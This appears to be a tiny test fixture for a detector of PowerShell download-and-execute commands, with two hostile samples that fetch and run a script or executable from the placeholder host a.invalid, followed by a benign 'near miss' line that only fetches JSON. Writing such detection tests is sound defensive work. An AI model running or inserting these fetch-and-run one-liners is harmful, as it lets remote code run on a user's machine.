irm https://a.invalid/s.ps1 | iex
iwr -Uri https://a.invalid/a.exe -OutFile a.exe; Start-Process a.exe
# near misses
irm https://a.invalid/data.json
